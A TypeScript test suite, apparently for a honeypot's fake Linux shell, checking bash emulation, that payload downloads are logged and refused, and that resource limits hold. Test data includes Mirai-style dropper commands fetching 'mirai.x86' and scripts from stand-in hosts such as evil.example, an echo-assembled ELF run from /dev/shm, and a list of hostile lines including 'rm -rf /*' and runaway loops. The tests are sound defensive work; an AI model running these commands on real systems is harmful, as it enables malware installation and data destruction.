import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { makePersona } from '../personas.ts';
import { worldOf } from './linux-tree.ts';
import { execute, makeShell } from './shell.ts';
import type { ShellHost } from './state.ts';
import { Terminal } from './terminal.ts';

const NOW = Date.UTC(2026, 10, 2, 9, 30);
const persona = makePersona('ubuntu-server', Buffer.alloc(32, 7), NOW);

interface Seen {
  screen: string;
  urls: string[];
  dropped: Map<string, Buffer>;
  limits: string[];
  ended: boolean;
  type(bytes: string): void;
  /** Lets a sleeping command wake up. */
  wake(): void;
  /** What the line printed, without its echo and the next prompt. */
  run(line: string): string;
  close(): void;
}

function login(user = 'root', term = 'dumb'): Seen {
  const timers: (() => void)[] = [];
  const seen: Seen = {
    screen: '',
    urls: [],
    dropped: new Map(),
    limits: [],
    ended: false,
    type: (bytes) => terminal.input(bytes),
    wake: () => timers.shift()?.(),
    run(line) {
      seen.screen = '';
      terminal.input(`${line}\r`);
      const text = seen.screen.replaceAll('\r\n', '\n');
      return text.slice(text.indexOf('\n') + 1, text.lastIndexOf('\n') + 1);
    },
    close: () => terminal.close(),
  };
  const host: ShellHost = {
    now: () => NOW,
    random: (bytes) => Buffer.alloc(bytes, 5),
    requested: (urls) => void seen.urls.push(...urls),
    dropped: (name, content) => void seen.dropped.set(name, content),
    limited: (name) => void seen.limits.push(name),
  };
  const shell = makeShell(worldOf(persona, '198.51.100.1'), host, {
    user,
    term,
    tty: 'pts/0',
    from: '192.0.2.7',
    cameThrough: [],
  });
  const terminal = new Terminal(shell, {
    send: (bytes) => {
      seen.screen += bytes;
    },
    entered: () => undefined,
    interrupted: () => undefined,
    after: (_ms, callback) => {
      timers.push(callback);
      return { cancel: () => timers.splice(timers.indexOf(callback), 1) };
    },
    limited: host.limited,
    ended: () => {
      seen.ended = true;
    },
  });
  terminal.start();
  return seen;
}

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: shell source, not a template
const cases: readonly (readonly [string, string])[] = [
  ['echo a; echo b && echo c || echo d', 'a\nb\nc\n'],
  ['false && echo a || echo b', 'b\n'],
  ['X=1; X=2 true; echo $X "$X" \'$X\'', '1 1 $X\n'],
  ['echo $(echo in | tr a-z A-Z) `echo back`', 'IN back\n'],
  ['(cd /tmp; pwd); pwd', '/tmp\n/root\n'],
  ['for i in 1 2 3; do echo -n $i; done; echo', '123\n'],
  ['i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done', '1\n2\n3\n'],
  ['if [ -f /etc/passwd ]; then echo yes; else echo no; fi', 'yes\n'],
  ['case $(uname -m) in x86*) echo 64;; *) echo other;; esac', '64\n'],
  ['f() { echo "<$1>"; return 3; }; f x; echo $?', '<x>\n3\n'],
  ['printf "a\\nb\\n" | while read i; do echo "[$i]"; done', '[a]\n[b]\n'],
  ['echo one > /tmp/f; echo two >> /tmp/f; cat /tmp/f; wc -l /tmp/f', 'one\ntwo\n2 /tmp/f\n'],
  ['cat nope 2>/dev/null || echo gone', 'gone\n'],
  ['cat nope', 'cat: nope: No such file or directory\n'],
  ['nosuch', '-bash: nosuch: command not found\n'],
  ['./nosuch', '-bash: ./nosuch: No such file or directory\n'],
  ['echo hi # comment', 'hi\n'],
  ['/bin/busybox ECCHI', 'ECCHI: applet not found\n'],
  ['cat /bin/echo | head -c 4 | xxd', '00000000: 7f45 4c46                                .ELF\n'],
  ['dd bs=4 count=1 if=/bin/ls 2>/dev/null | wc -c', '4\n'],
  ["echo -ne '\\x67\\x61\\x79' > /tmp/g; cat /tmp/g; echo", 'gay\n'],
  ['cat /proc/cpuinfo | grep -c "^processor"', `${worldOf(persona, '198.51.100.1').machine.cores}\n`],
  ["echo a b c | awk '{print $3, $1}'", 'c a\n'],
  ['cd /nope', '-bash: cd: /nope: No such file or directory\n'],
  ['whoami; id', 'root\nuid=0(root) gid=0(root) groups=0(root)\n'],
  ['echo ${X:-none} ${#HOME} $((6*7))', 'none 5 42\n'],
  ['sh -c "echo inner; exit 4"; echo $?', 'inner\n4\n'],
  ['echo "echo piped" | sh', 'piped\n'],
  ['mkdir -p /tmp/a/b; cd /tmp/a; ls', 'b\n'],
  ['which wget curl', '/usr/bin/wget\n/usr/bin/curl\n'],
  ['ls /nonexistent', "ls: cannot access '/nonexistent': No such file or directory\n"],
  ['cat /etc/hostname', `${persona.hostName}\n`],
  ['x=5; echo $x$y$?', '50\n'],
  ['echo /etc/host*', '/etc/hostname /etc/hosts /etc/hosts.allow /etc/hosts.deny\n'],
  ['cat <<E | tr a-z A-Z\nhere $USER\nE', 'HERE ROOT\n'],
  [')', "-bash: syntax error near unexpected token `)'\n"],
];

// biome-ignore-end lint/suspicious/noTemplateCurlyInString: shell source, not a template
for (const [line, expected] of cases) {
  test(`\`${line}\` prints what a real shell prints`, () => {
    const shell = login();
    const printed = shell.run(line.replaceAll('\n', '\r')).replace(/^> .*\n/gm, '');
    assert.equal(printed, expected);
  });
}

test('a download is recorded and refused, whichever program is asked for it', () => {
  const shell = login();
  assert.match(
    shell.run('wget http://203.0.113.9/x.sh -O /tmp/x'),
    /Connecting to 203\.0\.113\.9:80\.\.\. failed: Connection refused/,
  );
  assert.match(shell.run('curl -O http://evil.example/y'), /Could not resolve host: evil\.example/);
  assert.match(
    shell.run('/bin/busybox wget http://203.0.113.9:81/z -O - > q'),
    /can't connect to remote host \(203\.0\.113\.9\): Connection refused/,
  );
  assert.match(shell.run('tftp 203.0.113.9 -c get bins.sh'), /tftp: command not found/);
  shell.run('ftpget -v -u anonymous -p pw -P 21 203.0.113.9 a b');
  shell.type('/bin/busybox tftp -g -l dvr -r mirai.x86 203.0.113.9\r');
  shell.wake();
  assert.deepEqual(shell.urls, [
    'http://203.0.113.9/x.sh',
    'http://evil.example/y',
    'http://203.0.113.9:81/z',
    'tftp://203.0.113.9/bins.sh',
    'ftp://anonymous:pw@203.0.113.9:21/b',
    'tftp://203.0.113.9/mirai.x86',
  ]);
});

test('a file put together from echoes is kept once when it is made executable, and run', () => {
  const shell = login();
  shell.run('cd /dev/shm');
  shell.run("/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x02\\x01' > up");
  shell.run("/bin/busybox echo -ne '\\x01\\x00' >> up; chmod 777 up");
  assert.equal(shell.run('./up'), '-bash: ./up: cannot execute binary file: Exec format error\n');
  shell.close();
  assert.deepEqual([...shell.dropped], [['/dev/shm/up', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0])]]);
});

test('a dropped script is run, so that what it fetches is recorded', () => {
  const shell = login();
  shell.run('cd /tmp; echo "wget http://203.0.113.9/a; for x in b c; do curl http://203.0.113.9/\\$x; done" > s; sh s');
  assert.deepEqual(shell.urls, ['http://203.0.113.9/a', 'http://203.0.113.9/b', 'http://203.0.113.9/c']);
});

test('files that stay are kept when the session ends, and one session sees nothing of another', () => {
  const first = login();
  first.run('echo payload > /tmp/left');
  first.close();
  assert.equal(first.dropped.get('/tmp/left')?.toString(), 'payload\n');
  assert.equal(login().run('cat /tmp/left'), 'cat: /tmp/left: No such file or directory\n');
});

test('sh is a shell of its own that exit leaves again', () => {
  const shell = login();
  shell.run('enable');
  shell.run('sh');
  assert.match(shell.screen, /^sh\r\nsh-5\.\d# $/);
  assert.equal(shell.run('linuxshell'), 'sh: linuxshell: command not found\n');
  shell.run('exit');
  assert.match(shell.screen, new RegExp(`exit\\r\\nexit\\r\\nroot@${persona.hostName}:~# $`));
  shell.type('exit\r');
  assert.equal(shell.ended, true);
});

test('an unprivileged user is refused what only root may do', () => {
  const shell = login('guest');
  assert.match(shell.screen, /^guest@[a-z0-9-]+:~\$ $/);
  assert.equal(shell.run('cat /etc/shadow'), 'cat: /etc/shadow: Permission denied\n');
  assert.equal(shell.run('echo x > /etc/passwd'), '-bash: /etc/passwd: Permission denied\n');
  assert.equal(shell.run('echo x > /tmp/mine; cat /tmp/mine'), 'x\n');
});

test('keys edit the line: erase, kill, history, interrupt', () => {
  const shell = login();
  shell.type('echo ab\x7fc\x08d\r');
  assert.match(shell.screen, /\r\nad\r\n/);
  assert.equal(shell.run('nonsense\x15echo fine'), 'fine\n');
  shell.screen = '';
  shell.type('\x1b[A\r');
  assert.match(shell.screen, /^echo fine\r\nfine\r\n/);
  shell.screen = '';
  shell.type('half a lin\x03');
  assert.match(shell.screen, /\^C\r\n.*# $/);
});

test('cat reads the terminal until the end of input, and ^C ends what sleeps', () => {
  const shell = login();
  shell.type('cat > /tmp/in\rline one\rline two\r\x04');
  assert.equal(shell.run('cat /tmp/in'), 'line one\nline two\n');
  shell.screen = '';
  shell.type('sleep 500; echo woke\r');
  shell.type('echo ahead\r');
  assert.doesNotMatch(shell.screen, /ahead/);
  shell.type('\x03');
  assert.match(shell.screen, /\^C/);
  assert.equal(shell.run('echo again'), 'again\n');
});

test('bracketed paste is asked for where bash 5.1 would, and not on a dumb terminal', () => {
  const marked = login('root', 'xterm').screen.startsWith('\x1b[?2004h');
  assert.equal(marked, persona.os.version.slice(0, 5) !== '20.04');
  assert.equal(login('root', 'dumb').screen.includes('\x1b'), false);
});

const HOSTILE: readonly string[] = [
  'while :; do :; done',
  'f() { f; }; f',
  'x=a; while :; do x=$x$x; done',
  '$('.repeat(200) + ')'.repeat(200),
  '('.repeat(5000),
  'a() '.repeat(5000),
  'yes | grep -E ".*.*.*.*.*.*x"',
  `echo ${'*'.repeat(3000)}`,
  'cat /dev/urandom > /tmp/x; while :; do cat /tmp/x /tmp/x >> /tmp/y; done',
  'while :; do echo x >> /tmp/z; chmod 777 /tmp/z; done',
  `echo $((${'('.repeat(3000)}`,
  `echo ${'\\'.repeat(20_000)}`,
  'eval "eval eval eval $(yes)"',
  `echo "${'\n'.repeat(1)}`,
  'ls -R / ; find / ; rm -rf /*; ls',
  `sed "s/${'a*'.repeat(200)}/x/g" /etc/passwd`,
  'set -- $(seq 1 10000); for a; do for b; do :; done; done',
  'exec nope; trap; wait; fg; shift 99; break; continue; return',
];

test('no line costs more than its bounds', () => {
  for (const line of HOSTILE) {
    const shell = login();
    const started = process.cpuUsage();
    shell.type(`${line}\r`);
    const { user } = process.cpuUsage(started);
    assert.ok(user < 3_000_000, `${line.slice(0, 40)} took ${user} us`);
    assert.ok(shell.screen.length < 1_200_000, `${line.slice(0, 40)} printed ${shell.screen.length}`);
    shell.close();
    const kept = [...shell.dropped.values()].reduce((sum, bytes) => sum + bytes.length, 0);
    assert.ok(kept <= 16 * 1_048_576);
  }
});

test('a runaway line is killed and the bound recorded', () => {
  const shell = login();
  assert.equal(shell.run('while :; do :; done'), 'Killed\n');
  assert.deepEqual(shell.limits, ['shell steps']);
  assert.equal(shell.run('echo $?'), '137\n');
});

test('any bytes at all leave the shell at work', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      'echo',
      ' ',
      '$x',
      '"',
      "'",
      '`',
      '$(',
      ')',
      '|',
      '&&',
      ';',
      '>',
      '<',
      '<<',
      '\r',
      'if',
      'then',
      'fi',
      'do',
      'done',
      'case',
      '{',
      '}',
      '*',
      '\\',
      '#',
      '/bin/busybox',
      'cat',
      '/etc/*',
      '\x03',
      '\x7f',
      '${',
      'in',
      '((',
      'while',
      'read',
      'sh',
    ),
    fc.string({ maxLength: 6, unit: 'binary' }).map((text) => Buffer.from(text).toString('latin1')),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const shell = login();
      shell.type(`${pieces.join('')}\r`);
      shell.close();
    }),
    { numRuns: 400 },
  );
});

test('a command without a terminal runs the same way', () => {
  let out = '';
  const print = (text: string): void => {
    out += text;
  };
  const host: ShellHost = {
    now: () => NOW,
    random: (bytes) => Buffer.alloc(bytes),
    requested: () => undefined,
    dropped: () => undefined,
    limited: () => undefined,
  };
  const shell = makeShell(worldOf(persona, '198.51.100.1'), host, {
    user: 'root',
    term: '',
    tty: 'pts/0',
    from: '192.0.2.7',
    cameThrough: [],
  });
  const io = {
    input: { kind: 'text', text: 'stdin\n', at: 0 } as const,
    out: print,
    err: print,
  };
  const result = execute(shell, 'uname -s; cat; nosuch', io).next();
  assert.deepEqual(result, { done: true, value: 127 });
  assert.equal(out, 'Linux\nstdin\nbash: line 1: nosuch: command not found\n');
});
